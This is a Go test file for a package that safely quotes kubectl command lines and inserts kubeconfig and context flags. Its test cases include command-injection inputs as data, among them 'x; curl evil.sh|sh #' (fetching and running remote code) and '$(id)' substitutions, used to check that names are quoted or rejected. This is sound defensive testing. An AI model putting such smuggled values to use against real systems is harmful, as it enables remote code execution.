package shell

import "testing"

func TestKubectl(t *testing.T) {
	cases := []struct {
		name  string
		words []string
		want  string
	}{
		{"plain names stay plain", []string{"redis-7f9c-a", "demo"}, "kubectl delete pod redis-7f9c-a -n demo"},
		{"a shell's words", []string{"x; curl evil.sh|sh #", "demo"}, "kubectl delete pod 'x; curl evil.sh|sh #' -n demo"},
		{"a substitution", []string{"$(id)", "`id`"}, "kubectl delete pod '$(id)' -n '`id`'"},
		{"a quote", []string{"it's", "demo"}, `kubectl delete pod 'it'\''s' -n demo`},
		{"a path of zsh", []string{"=ls", "~root"}, "kubectl delete pod '=ls' -n '~root'"},
		{"an option", []string{"--all", "demo"}, ""},
		{"nothing", []string{"", "demo"}, ""},
		{"a line of its own", []string{"x\nid", "demo"}, ""},
		{"an escape", []string{"x\x1b[2J", "demo"}, ""},
	}
	for _, tc := range cases {
		if got := Kubectl("delete pod %s -n %s", tc.words...); got != tc.want {
			t.Errorf("%s: %s, want %s", tc.name, got, tc.want)
		}
	}
}

func TestAdvice(t *testing.T) {
	if got := Advice("remove it", "kubectl delete pod x"); got != "remove it: kubectl delete pod x" {
		t.Error(got)
	}
	if got := Advice("remove it", ""); got != "remove it" {
		t.Error(got)
	}
}

func TestOn(t *testing.T) {
	const prod = " --kubeconfig=k --context=prod"
	for _, tc := range []struct{ name, text, want string }{
		{"at the start", "kubectl delete pod x", "kubectl --kubeconfig=k --context=prod delete pod x"},
		{"after a text", "remove it: kubectl delete pod x", "remove it: kubectl --kubeconfig=k --context=prod delete pod x"},
		{"two", "look: kubectl get nodes; kubectl describe pod x", "look: kubectl --kubeconfig=k --context=prod get nodes; kubectl --kubeconfig=k --context=prod describe pod x"},
		{"in brackets", "apply the tree (kubectl svcx apply -k DIR), or not", "apply the tree (kubectl svcx --kubeconfig=k --context=prod apply -k DIR), or not"},
		{"on a line of its own", "a\nkubectl get pods", "a\nkubectl --kubeconfig=k --context=prod get pods"},
		{"there already", "kubectl get pods --kubeconfig=k --context=prod", "kubectl get pods --kubeconfig=k --context=prod"},
		{"a field manager", "ConfigMap/c: kubectl-edit owns data.a; kubectl owns data.b", "ConfigMap/c: kubectl-edit owns data.a; kubectl owns data.b"},
		{"a name that is a command", `kubectl delete pod 'x; kubectl y' -n 'it'\''s: kubectl z'; kubectl get pods`, `kubectl --kubeconfig=k --context=prod delete pod 'x; kubectl y' -n 'it'\''s: kubectl z'; kubectl --kubeconfig=k --context=prod get pods`},
		{"said by somebody else", "refused: use --kubeconfig=k --context=prod\nremove it: kubectl delete pod x", "refused: use --kubeconfig=k --context=prod\nremove it: kubectl --kubeconfig=k --context=prod delete pod x"},
		{"of another cluster", "kubectl get pods --kubeconfig=k --context=production", "kubectl --kubeconfig=k --context=prod get pods --kubeconfig=k --context=production"},
		{"after an apostrophe", "look: kubectl get nodes, it can't hurt\nthen: kubectl get pods", "look: kubectl --kubeconfig=k --context=prod get nodes, it can't hurt\nthen: kubectl --kubeconfig=k --context=prod get pods"},
		{"spoken of", "as kubectl port-forward does", "as kubectl port-forward does"},
		{"nothing", "", ""},
	} {
		if got := On(tc.text, prod); got != tc.want {
			t.Errorf("%s: %s, want %s", tc.name, got, tc.want)
		}
		if got := On(tc.text, ""); got != tc.text {
			t.Errorf("%s, without flags: %s", tc.name, got)
		}
	}
	if got := On("kubectl get pods", " --context='$1'"); got != "kubectl --context='$1' get pods" {
		t.Errorf("flags are no template: %s", got)
	}
}
